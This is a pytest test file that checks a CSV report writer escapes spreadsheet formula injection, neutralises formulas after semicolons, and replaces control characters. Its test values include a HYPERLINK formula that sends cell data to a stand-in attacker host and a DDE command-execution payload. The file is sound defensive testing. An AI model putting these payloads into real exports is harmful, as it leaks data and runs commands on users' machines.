"""Reports in CSV: what mail servers call things is no formula, and obeys no terminal."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from muniment.cli.kit.reports import write_report


def written(tmp_path: Path, *row: object) -> list[str]:
    """Write one row and read it as a spreadsheet does."""
    file = tmp_path / "report.csv"
    write_report(file, ["name"] * len(row), [row])
    with file.open(encoding="utf-8", newline="") as stream:
        [_, found] = csv.reader(stream)
    return found


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
        "\uff0b1",
        "-",
        "=",
    ],
)
def test_a_formula_becomes_text(tmp_path: Path, value: str) -> None:
    """A cell that begins like a formula begins with an apostrophe instead (OWASP, CSV Injection)."""
    [cell] = written(tmp_path, value)

    assert cell.startswith("'")
    assert value.strip()[1:] in cell


@pytest.mark.parametrize("value", ["a;=1+1", "a; \t=1+1", 'a;"=1+1', "a;@x", "a;\uff1d1"])
def test_a_formula_behind_a_semicolon_becomes_text(tmp_path: Path, value: str) -> None:
    """Spreadsheets of many countries split at semicolons, whatever the writer meant."""
    [cell] = written(tmp_path, value)

    assert not any(part.strip(' \t"\ufffd')[:1] in {"=", "+", "-", "@", "\uff1d"} for part in cell.split(";"))


@pytest.mark.parametrize("character", [*map(chr, range(32)), "\x7f", "\x9b", "\u2028", "\u202e", "\u2066"])
def test_control_characters_are_shown(tmp_path: Path, character: str) -> None:
    """They neither move the cursor nor begin another row, and one cannot be hidden behind them."""
    [cell] = written(tmp_path, f"a{character}b")

    assert cell == "a\N{REPLACEMENT CHARACTER}b"


def test_other_values_stay_as_they_are(tmp_path: Path) -> None:
    """Numbers, addresses, accents and quotes are what they were."""
    row = (12, -3, 1.5, "-3", "+4.5", "ann@example.com", 'say "hi", then; go', "Gelöschte Objekte", "", None)

    assert written(tmp_path, *row) == [*map(str, row[:-1]), ""]
